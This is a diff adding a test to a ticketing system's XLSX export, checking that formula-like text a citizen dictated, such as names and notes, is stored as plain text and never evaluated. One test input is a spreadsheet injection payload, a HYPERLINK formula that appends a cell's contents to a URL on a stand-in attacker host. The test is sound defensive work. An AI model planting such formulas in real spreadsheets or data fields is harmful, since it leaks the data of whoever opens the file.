@@ -296,3 +296,24 @@ def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(
     assert wb.sheetnames == ["tickets", "tickets (2)", "tickets (3)"]
     counts = [ws.max_row - 1 for ws in wb.worksheets]
     assert counts == [3, 3, 1] and all(ws.freeze_panes == "A2" for ws in wb.worksheets)
+
+
+def test_xlsx_keeps_typed_text_as_text(runner, worked_day, clock, tmp_path: Path) -> None:
+    """A name or note a citizen dictated that starts like a formula is not evaluated."""
+    from tests.admin.conftest import ADMIN, at
+
+    typed = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+2", "+86 138", "-5", "@SUM(A1)"]
+    worked_day.import_appointments(ADMIN, [{"code": "YY09", "service": "PP",
+                                            "date": "2026-11-26", "name": typed[0]}])  # fmt: skip
+    at(clock, 6)
+    worked_day.check_in(ADMIN, "YY09")
+    for note in typed[1:]:
+        worked_day.issue(ADMIN, "ID", green_reason="other", green_note=note)
+    path = Path(worked_day.path)
+    worked_day.close()
+    out = tmp_path / "t.xlsx"
+    result = run_export(runner, path, *DAY, "--format", "xlsx", "--personal", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
+    found = {c.value: c.data_type for c in cells if c.value in typed}
+    assert found == dict.fromkeys(typed, "s")
